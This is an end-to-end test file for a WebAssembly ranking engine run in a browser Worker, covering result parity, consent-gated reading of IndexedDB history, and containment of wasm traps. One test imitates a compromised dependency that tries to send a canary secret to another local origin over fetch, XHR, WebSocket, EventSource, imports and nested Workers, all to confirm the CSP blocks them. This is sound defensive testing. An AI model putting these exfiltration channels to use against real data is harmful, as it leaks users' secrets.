// End-to-end tests of pkg/worker.js (the Engine in a dedicated Worker) in a real Chromium: it ranks and profiles
// exactly as the Engine on the main thread; the Worker, served with `connect-src 'none'`, cannot reach the network
// (a fetch from inside it is refused and never reaches the server, while the same fetch from the page does); and a
// WebAssembly trap inside the Worker's instance is contained: reported once, the Worker replaced, the call answered
// with the default ranking, the next calls personal again; with `historyFrom: 'indexeddb'` the Worker reads the
// stored history itself (no message carries it), as the main-thread Engine would rank it, and only with consent.
// Needs `bash scripts/build.sh` first.
//
//   node --test tests/e2e/worker.test.mjs
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { serverAndBrowser } from './harness.mjs';
import { WORKER_CONTENT_SECURITY_POLICY, WORKER_SCRIPT } from '../../scripts/serve.mjs';

const env = serverAndBrowser(async () => {
  const context = await env.browser.newContext();
  page = await context.newPage();
  page.on('console', (m) => {
    if (m.type() === 'error') log.console.push(m.text());
  });
  page.on('pageerror', (e) => log.errors.push(String(e)));
  page.on('worker', (w) => workers.push(w));
  // A page of this origin with the server's strict page policy (its headers kept) and no script of its own: the demo
  // pages start their own WorkerEngine, and these tests count Workers.
  await page.route('**/worker-fixture.html', async (route) => {
    const res = await route.fetch({ url: `${env.server.url}preferences.html` });
    await route.fulfill({ response: res, body: '<!doctype html><title>worker fixture</title>' });
  });
  await page.goto(`${env.server.url}worker-fixture.html`);
  await page.waitForLoadState('load');
  await page.evaluate(async () => {
    const get = async (name) => (await fetch(`/data/${name}`)).json();
    const [catalog, model, history] = await Promise.all([get('catalog.json'), get('model.json'), get('history.json')]);
    const now = Math.max(...history.map((e) => Date.parse(e.at))) + 86_400_000;
    const request = { history, context: { now, k: 12 } };
    const { WorkerEngine } = await import('/pkg/worker.js');
    const tactful = await import('/pkg/tactful.js');
    await import('/pkg/storage.js'); // loaded once here, so the tests below can count the page's requests
    await tactful.default();
    window.errorsReported = [];
    window.t = {
      catalog,
      model,
      request,
      worker: await WorkerEngine.create(catalog, { model, onError: (e) => window.errorsReported.push(e) }),
      local: new tactful.Engine(catalog, { model }),
    };
  });
});
let page;
const workers = [];

// Another origin (a second port of 127.0.0.1) that records every request and WebSocket upgrade reaching it.
const elsewhereHits = [];
let elsewhere;
before(async () => {
  elsewhere = createServer((req, res) => {
    elsewhereHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
    res.end('export default 1;');
  });
  elsewhere.on('upgrade', (req, socket) => {
    elsewhereHits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
});
after(() => new Promise((resolve) => elsewhere.close(resolve)));
const log = { console: [], errors: [] };

describe('pkg/worker.js: the Engine in a Worker', () => {
  test('ranks and profiles exactly as the Engine on the main thread, in a Worker', async () => {
    const got = await page.evaluate(async () => {
      const { worker, local, request, catalog } = window.t;
      const profileRequest = { history: request.history, context: request.context };
      return {
        inWorker: worker.inWorker,
        size: [worker.size, catalog.length],
        rank: [JSON.stringify(await worker.rank(request)), JSON.stringify(local.rank(request))],
        profile: [JSON.stringify(await worker.profile(profileRequest)), JSON.stringify(local.profile(profileRequest))],
        items: (await worker.rank(request)).items.length,
      };
    });
    assert.equal(got.inWorker, true);
    assert.equal(workers.length, 1, 'one Worker started');
    assert.equal(got.size[0], got.size[1]);
    assert.equal(got.rank[0], got.rank[1]);
    assert.equal(got.profile[0], got.profile[1]);
    assert.equal(got.items, 12);
  });

  test('an engine error keeps its code and path across the Worker boundary', async () => {
    const err = await page.evaluate(async () => {
      const bad = { ...window.t.request, context: { ...window.t.request.context, k: 0 } };
      try {
        await window.t.worker.rank(bad);
        return null;
      } catch (e) {
        return { code: e.code, path: e.path, isError: e instanceof Error };
      }
    });
    assert.deepEqual(err, { code: 'INVALID_INPUT', path: 'context.k', isError: true });
  });

  test('the Worker script is served with a CSP that allows it no connection', async () => {
    const res = await fetch(new URL(WORKER_SCRIPT, env.server.url));
    assert.equal(res.status, 200);
    const csp = res.headers.get('content-security-policy');
    assert.equal(csp, WORKER_CONTENT_SECURITY_POLICY);
    assert.ok(csp.includes("connect-src 'none'") && csp.includes("default-src 'none'"), csp);
  });

  test('the Worker makes no request while ranking, and cannot make one at all', async () => {
    const before = env.server.requests.length;
    await page.evaluate(async () => {
      for (let i = 0; i < 3; i++) await window.t.worker.rank(window.t.request);
    });
    assert.deepEqual(env.server.requests.slice(before), [], 'ranking in the Worker asked the server for nothing');
    // From inside the Worker (Chromium's debugger evaluates there, under the Worker's own CSP), a fetch is refused
    // before it leaves; the same fetch from the page reaches the server, so the check could fail.
    const probe = `/data/catalog.json?probe=${Date.now()}`;
    const inWorker = await workers[0].evaluate(
      (url) => fetch(url).then(() => 'fetched', (e) => `refused: ${e.name}`), probe);
    assert.match(inWorker, /^refused: TypeError$/);
    assert.ok(!env.server.requests.includes(probe), 'the refused fetch never reached the server');
    const fromPage = await page.evaluate((url) => fetch(url).then((r) => r.status), probe);
    assert.equal(fromPage, 200);
    assert.ok(env.server.requests.includes(probe), 'the page may fetch it');
  });

  test('inside the Worker every channel to this or another origin is refused, and nothing arrives', async () => {
    const base = `http://127.0.0.1:${elsewhere.address().port}/`;
    const own = env.server.requests.length;
    // Run in the Worker itself (the debugger evaluates there, under the Worker's own policy), as a compromised
    // dependency inside the engine's thread would.
    const tried = await workers[0].evaluate(async ({ base, self: origin }) => {
      const url = (channel) => `${base}canary/${channel}/CANARY-SECRET`;
      const out = {};
      const attempt = async (name, fn) => {
        try {
          out[name] = `ok ${String(await fn())}`;
        } catch (e) {
          out[name] = `threw ${e.name}`;
        }
      };
      const settle = (target, open) => new Promise((resolve, reject) => {
        target.onerror = () => reject(new Error(`${open} failed`));
        target[open] = () => resolve(open);
      });
      await attempt('fetch', () => fetch(url('fetch'), { method: 'POST', body: 'CANARY-SECRET' }));
      await attempt('fetch-no-cors', () => fetch(url('fetch-no-cors'), { mode: 'no-cors' }));
      await attempt('fetch-own-origin', () => fetch(`${origin}data/personas.json?CANARY-SECRET`));
      await attempt('xhr', () => new Promise((resolve, reject) => {
        const x = new XMLHttpRequest();
        x.open('GET', url('xhr'));
        x.onload = resolve;
        x.onerror = () => reject(new Error('xhr error'));
        x.send();
      }));
      await attempt('websocket', () => settle(new WebSocket(url('websocket').replace('http', 'ws')), 'onopen'));
      await attempt('eventsource', () => settle(new EventSource(url('eventsource')), 'onopen'));
      await attempt('module', () => import(url('module')));
      await attempt('worker', () => settle(new Worker(url('worker'), { type: 'module' }), 'onmessage'));
      await new Promise((resolve) => { setTimeout(resolve, 500); });
      return out;
    }, { base, self: env.server.url });
    for (const [channel, result] of Object.entries(tried)) {
      assert.match(result, /^threw /, `${channel} from inside the Worker: ${result}`);
    }
    assert.equal(Object.keys(tried).length, 8);
    assert.deepEqual(elsewhereHits, [], 'nothing reached the other origin');
    assert.deepEqual(env.server.requests.slice(own), [], 'nothing reached the page\'s own server either');
    // The control: the same fetch from the page reaches the other origin (the page policy is not what stops it:
    // page fetches to another origin are refused too, so the control goes through Node, outside the browser).
    await fetch(`${base}canary/control/CANARY-SECRET`);
    assert.deepEqual(elsewhereHits, ['GET /canary/control/CANARY-SECRET'], 'the recording server records');
    elsewhereHits.length = 0;
  });

  test('a trap inside the wasm is contained: reported once, Worker replaced, default ranking served', async () => {
    // Make the Worker's next rank call run the wasm on a pointer no engine has: the instance traps (an out-of-bounds
    // memory access inside the module, a WebAssembly.RuntimeError), as any wasm bug would. Nothing in the shipped
    // files exists for this: the test reaches into the Worker through the debugger.
    const armed = await workers[0].evaluate(async () => {
      const m = await import('/pkg/tactful.js');
      // The generated glue hands back the instance it already holds (the package's entry refuses a bare initSync()).
      const exports = (await import('/pkg/tactful_glue.js')).initSync();
      m.Engine.prototype.rank = function rank(request) {
        return exports.engine_rank(0xfffffff0, request);
      };
      return typeof exports.engine_rank;
    });
    assert.equal(armed, 'function');
    const got = await page.evaluate(async () => {
      const { worker, local, request } = window.t;
      const trapped = await worker.rank(request);
      const reported = window.errorsReported.map((e) => ({ name: e.name, message: e.message }));
      const after = await worker.rank(request);
      const again = await worker.rank(request);
      return {
        trapped: JSON.stringify(trapped),
        defaultRanking: JSON.stringify(local.rank({ ...request, history: [], impressions: [] })),
        mode: trapped.mode,
        reported,
        reportedAfter: window.errorsReported.length,
        after: JSON.stringify(after),
        again: JSON.stringify(again),
        personal: JSON.stringify(local.rank(request)),
        traps: worker.traps,
      };
    });
    assert.equal(got.reported.length, 1, 'reported once');
    assert.equal(got.reported[0].name, 'RuntimeError');
    assert.equal(got.reportedAfter, 1, 'and only once');
    assert.equal(got.traps, 1);
    assert.equal(got.trapped, got.defaultRanking, 'the trapped call is answered with the default ranking');
    assert.equal(got.mode, 'default');
    assert.notEqual(got.trapped, got.personal);
    assert.equal(got.after, got.personal, 'the replacement Worker ranks personally again');
    assert.equal(got.again, got.personal);
    assert.equal(workers.length, 2, 'a second Worker replaced the first');
  });

  test('historyFrom: the Worker reads the stored history itself; a write by the page changes its next ranking',
    async () => {
      const before = env.server.requests.length;
      const got = await page.evaluate(async () => {
        const { worker, local, request } = window.t;
        const storage = await import('/pkg/storage.js');
        // Every message the page posts to a Worker, recorded (the wrapper posts through the prototype's method).
        const sent = [];
        const post = Worker.prototype.postMessage;
        Worker.prototype.postMessage = function record(msg, ...rest) {
          sent.push(msg);
          return post.call(this, msg, ...rest);
        };
        const json = JSON.stringify;
        try {
          const ask = { context: request.context };
          const from = { historyFrom: 'indexeddb' };
          const earlier = request.history.slice(0, Math.floor(request.history.length / 2));
          const nothing = await worker.rank(ask, from);
          await storage.saveConsent();
          await storage.saveHistory(earlier);
          const first = await worker.rank(ask, from);
          await storage.saveHistory(request.history); // the later purchases, written by the page
          const second = await worker.rank(ask, from);
          const profile = await worker.profile(ask, from);
          return {
            nothing: [json(nothing), json(local.rank({ ...request, history: [] }))],
            first: [json(first), json(local.rank({ ...request, history: earlier }))],
            second: [json(second), json(local.rank(request))],
            profile: [json(profile), json(local.profile({ history: request.history, context: request.context }))],
            posted: sent.map((m) => ({ op: m.op, history: m.request && 'history' in m.request, from: m.from })),
          };
        } finally {
          Worker.prototype.postMessage = post;
          await storage.erase();
        }
      });
      assert.equal(got.nothing[0], got.nothing[1], 'nothing stored: the default ranking');
      assert.equal(got.first[0], got.first[1], 'the stored history, as the main-thread Engine ranks it');
      assert.equal(got.second[0], got.second[1], 'the history the page wrote since');
      assert.notEqual(got.first[0], got.second[0], 'the write changed the next ranking');
      assert.equal(got.profile[0], got.profile[1]);
      assert.equal(got.posted.length, 4);
      for (const m of got.posted) {
        assert.deepEqual(m, { op: m.op, history: false, from: { history: true, preferences: false } },
          'no message to the Worker carries a history');
      }
      assert.deepEqual(env.server.requests.slice(before), [], 'and nothing was asked of the server');
    });

  test('historyFrom: without a consent record a stored history is not used', async () => {
    const got = await page.evaluate(async () => {
      const { worker, local, request } = window.t;
      const storage = await import('/pkg/storage.js');
      const json = JSON.stringify;
      // A history in the database with no consent record beside it (storage.js refuses to write one: raw IndexedDB).
      await new Promise((resolve, reject) => {
        const open = indexedDB.open('tactful', 1);
        open.onupgradeneeded = () => open.result.createObjectStore('shopper');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const tx = open.result.transaction('shopper', 'readwrite');
          tx.objectStore('shopper').put(request.history, 'history');
          tx.oncomplete = () => {
            open.result.close();
            resolve();
          };
          tx.onerror = () => reject(tx.error);
        };
      });
      const ask = { context: request.context };
      const without = await worker.rank(ask, { historyFrom: 'indexeddb' });
      await storage.saveConsent();
      const withConsent = await worker.rank(ask, { historyFrom: 'indexeddb' });
      await storage.erase();
      return {
        without: json(without),
        withConsent: json(withConsent),
        defaultRanking: json(local.rank({ ...request, history: [] })),
        personal: json(local.rank(request)),
      };
    });
    assert.equal(got.without, got.defaultRanking, 'no consent: the stored history is not read into the ranking');
    assert.equal(got.withConsent, got.personal, 'once consent is recorded it is');
  });

  test('preferencesFrom: the stored preferences apply, personalization from the consent record', async () => {
    const got = await page.evaluate(async () => {
      const { worker, local, request, catalog } = window.t;
      const storage = await import('/pkg/storage.js');
      const json = JSON.stringify;
      const byId = new Map(catalog.map((p) => [p.id, p]));
      await storage.saveConsent();
      await storage.saveHistory(request.history);
      // Mute the department of the first personal pick, as the preference center does.
      const top = local.rank(request).items[0].productId;
      const prefs = { muted: { categories: [byId.get(top).category[0]] }, intensity: 'strong' };
      await storage.savePreferences(prefs);
      const ask = { context: request.context };
      const both = await worker.rank(ask, { historyFrom: 'indexeddb', preferencesFrom: 'indexeddb' });
      const historyOnly = await worker.rank(ask, { historyFrom: 'indexeddb' });
      await storage.erase();
      return {
        both: json(both),
        expected: json(local.rank({ ...request, preferences: { ...prefs, consent: { personalization: true } } })),
        historyOnly: json(historyOnly),
        muted: prefs.muted.categories[0],
        shown: both.items.map((i) => byId.get(i.productId).category[0]),
      };
    });
    assert.equal(got.both, got.expected);
    assert.notEqual(got.both, got.historyOnly, 'the stored preferences changed the ranking');
    assert.ok(!got.shown.includes(got.muted), `the muted ${got.muted} is not shown`);
  });

  test('a request that carries what is read from IndexedDB, or an unknown source, is refused with code and path',
    async () => {
      const got = await page.evaluate(async () => {
        const { worker, request } = window.t;
        const code = (p) => p.then(() => null, (e) => ({ code: e.code, path: e.path }));
        return [
          await code(worker.rank(request, { historyFrom: 'indexeddb' })),
          await code(worker.rank({ context: request.context, preferences: {} }, { preferencesFrom: 'indexeddb' })),
          await code(worker.rank({ context: request.context }, { historyFrom: 'localStorage' })),
          await code(worker.profile({ context: request.context }, 'indexeddb')),
        ];
      });
      assert.deepEqual(got, [
        { code: 'INVALID_INPUT', path: 'history' },
        { code: 'INVALID_INPUT', path: 'preferences' },
        { code: 'INVALID_INPUT', path: 'from.historyFrom' },
        { code: 'INVALID_INPUT', path: 'from' },
      ]);
    });

  test('reading creates no database; storeName reads another one', async () => {
    const started = workers.length;
    const got = await page.evaluate(async () => {
      const { worker, local, request, catalog, model } = window.t;
      const { WorkerEngine } = await import('/pkg/worker.js');
      const storage = await import('/pkg/storage.js');
      const json = JSON.stringify;
      const names = async () => (await indexedDB.databases()).map((d) => d.name).sort();
      const ask = { context: request.context };
      const empty = await names();
      await worker.rank(ask, { historyFrom: 'indexeddb', preferencesFrom: 'indexeddb' });
      const afterRead = await names();
      // The shop's own database name, written through storage.js and read by a WorkerEngine told that name.
      await storage.openStore({ name: 'shop-db' });
      await storage.saveConsent();
      await storage.saveHistory(request.history);
      (await storage.openStore({ name: 'tactful' })).close();
      await storage.erase(); // the default one, just created by openStore, goes again
      const other = await WorkerEngine.create(catalog, { model, storeName: 'shop-db' });
      const fromOther = await other.rank(ask, { historyFrom: 'indexeddb' });
      const fromDefault = await worker.rank(ask, { historyFrom: 'indexeddb' });
      other.terminate();
      await storage.openStore({ name: 'shop-db' });
      await storage.erase();
      await storage.openStore({ name: 'tactful' });
      await storage.erase();
      return {
        empty,
        afterRead,
        fromOther: json(fromOther),
        fromDefault: json(fromDefault),
        personal: json(local.rank(request)),
        defaultRanking: json(local.rank({ ...request, history: [] })),
      };
    });
    assert.deepEqual(got.empty, []);
    assert.deepEqual(got.afterRead, [], 'reading from IndexedDB created no database');
    assert.equal(got.fromOther, got.personal, 'storeName: the history stored under that name');
    assert.equal(got.fromDefault, got.defaultRanking, 'the default database holds nothing');
    assert.equal(workers.length, started + 1);
  });

  test('worker: false runs on the main thread and reads IndexedDB the same way', async () => {
    const started = workers.length;
    const got = await page.evaluate(async () => {
      const { local, request, catalog, model } = window.t;
      const { WorkerEngine } = await import('/pkg/worker.js');
      const storage = await import('/pkg/storage.js');
      const json = JSON.stringify;
      const inline = await WorkerEngine.create(catalog, { model, worker: false });
      await storage.saveConsent();
      await storage.saveHistory(request.history);
      const stored = await inline.rank({ context: request.context }, { historyFrom: 'indexeddb' });
      const given = await inline.rank(request);
      await storage.erase();
      const erased = await inline.rank({ context: request.context }, { historyFrom: 'indexeddb' });
      inline.terminate();
      const afterTerminate = await inline.rank(request).then(() => null, (e) => ({ code: e.code, path: e.path }));
      return {
        inWorker: inline.inWorker,
        afterTerminate,
        stored: json(stored),
        given: json(given),
        erased: json(erased),
        personal: json(local.rank(request)),
        defaultRanking: json(local.rank({ ...request, history: [] })),
      };
    });
    assert.equal(got.inWorker, false);
    assert.deepEqual(got.afterTerminate, { code: 'FREED', path: '' }, 'a call after terminate() is refused');
    assert.equal(got.stored, got.personal);
    assert.equal(got.given, got.personal);
    assert.equal(got.erased, got.defaultRanking);
    assert.equal(workers.length, started, 'no Worker was started');
  });

  test('create() takes promises: the Worker starts before the catalog and model arrive, and ranks the same', async () => {
    const started = workers.length;
    await page.evaluate(async () => {
      const { WorkerEngine } = await import('/pkg/worker.js');
      let give;
      const arrived = new Promise((resolve) => { give = resolve; });
      window.late = {
        give,
        engine: WorkerEngine.create(arrived.then(() => window.t.catalog), {
          model: arrived.then(() => window.t.model),
          wasm: fetch('/pkg/tactful_bg.wasm'),
        }),
      };
    });
    const worker = await page.waitForEvent('worker', { timeout: 10_000 }).catch(() => null);
    assert.ok(worker, 'a Worker started while the catalog was still on its way');
    assert.equal(workers.length, started + 1);
    const got = await page.evaluate(async () => {
      const { local, request } = window.t;
      window.late.give();
      const engine = await window.late.engine;
      const ranking = JSON.stringify(await engine.rank(request));
      engine.terminate();
      return { ranking, expected: JSON.stringify(local.rank(request)), size: engine.size };
    });
    assert.equal(got.ranking, got.expected);
    assert.equal(got.size, await page.evaluate(() => window.t.catalog.length));
  });

  test('create() rejects with the catalog\'s error and leaves no Worker running', async () => {
    let closed;
    const spawned = new Promise((resolve) => {
      page.once('worker', (w) => {
        closed = new Promise((done) => w.once('close', () => done(true)));
        resolve(true);
      });
    });
    const got = await page.evaluate(async () => {
      const { WorkerEngine } = await import('/pkg/worker.js');
      try {
        await WorkerEngine.create(Promise.reject(Object.assign(new Error('catalog unavailable'), { code: 'X' })));
        return null;
      } catch (e) {
        return { message: e.message, code: e.code };
      }
    });
    assert.deepEqual(got, { message: 'catalog unavailable', code: 'X' });
    assert.equal(await spawned, true, 'a Worker was started at once');
    const timeout = new Promise((resolve) => { setTimeout(() => resolve(false), 5_000); });
    assert.equal(await Promise.race([closed, timeout]), true, 'and terminated when the catalog failed');
  });

  test('create() takes the Responses of files: JSON parsed in the Worker, a packed file (the demo pages\' data/catalog.pack) loaded as packed bytes; both transferred', async () => {
    const got = await page.evaluate(async () => {
      const { WorkerEngine } = await import('/pkg/worker.js');
      const { local, request } = window.t;
      const json = JSON.stringify;
      const loads = [];
      const post = Worker.prototype.postMessage;
      Worker.prototype.postMessage = function record(msg, ...rest) {
        const packed = msg.op === 'load' && msg.catalog instanceof Uint8Array;
        const magic = packed ? new TextDecoder().decode(msg.catalog.slice(0, 8)) : undefined; // before the transfer
        const out = post.call(this, msg, ...rest);
        if (msg.op === 'load') {
          // After postMessage: a transferred buffer is detached here (length 0).
          loads.push(packed ? { packed: msg.catalog.byteLength, magic, model: msg.options?.model }
            : { catalog: msg.catalog?.json?.byteLength, model: msg.options?.model?.json?.byteLength,
              isBytes: msg.catalog?.json instanceof Uint8Array && msg.options?.model?.json instanceof Uint8Array });
        }
        return out;
      };
      try {
        const fromFiles = await WorkerEngine.create(fetch('/data/catalog.json'), { model: fetch('/data/model.json') });
        const inline = await WorkerEngine.create(fetch('/data/catalog.json'),
          { model: fetch('/data/model.json'), worker: false });
        const packed = await WorkerEngine.create(fetch('/data/catalog.pack'));
        const packedInline = await WorkerEngine.create(fetch('/data/catalog.pack'), { worker: false });
        const out = {
          inWorker: json(await fromFiles.rank(request)),
          inline: json(await inline.rank(request)),
          packed: json(await packed.rank(request)),
          packedInline: json(await packedInline.rank(request)),
          expected: json(local.rank(request)),
          packedSize: packed.size,
          loads: [...loads],
        };
        for (const e of [fromFiles, inline, packed, packedInline]) e.terminate();
        const code = (p) => p.then(() => null, (e) => ({ code: e.code, path: e.path, message: e.message }));
        out.missing = await code(WorkerEngine.create(new Response('not found', { status: 404 })));
        out.notJson = await code(WorkerEngine.create(fetch('/data/personas/household-20.csv')));
        out.modelNotJson = await code(WorkerEngine.create(window.t.catalog,
          { model: fetch('/data/personas/household-20.csv'), worker: false }));
        // A packed file beside a model is refused, as new Engine(bytes, { model }) refuses it.
        out.packedWithModel = await code(WorkerEngine.create(fetch('/data/catalog.pack'),
          { model: fetch('/data/model.json') }));
        return out;
      } finally {
        Worker.prototype.postMessage = post;
      }
    });
    assert.equal(got.inWorker, got.expected);
    assert.equal(got.inline, got.expected);
    // The pack holds catalog.json and model.json (tests/packed.rs checks it is current): the same ranking.
    assert.equal(got.packed, got.expected);
    assert.equal(got.packedInline, got.expected);
    assert.ok(got.packedSize > 3000, `${got.packedSize} products`);
    assert.deepEqual(got.loads, [{ catalog: 0, model: 0, isBytes: true }, { packed: 0, magic: 'TACTPACK', model: undefined }],
      'bytes, transferred (detached here)');
    const coded = ({ code, path }) => ({ code, path });
    assert.deepEqual(coded(got.missing), { code: 'LOAD_FAILED', path: 'catalog' }, got.missing.message);
    assert.deepEqual(coded(got.notJson), { code: 'INVALID_INPUT', path: 'catalog' }, got.notJson.message);
    assert.deepEqual(coded(got.modelNotJson), { code: 'INVALID_INPUT', path: 'options.model' }, got.modelNotJson.message);
    assert.equal(got.packedWithModel?.code, 'INVALID_INPUT', JSON.stringify(got.packedWithModel));
  });

  test('the page logged no error', () => {
    assert.deepEqual(log.errors, []);
    assert.deepEqual(log.console, []);
  });
});
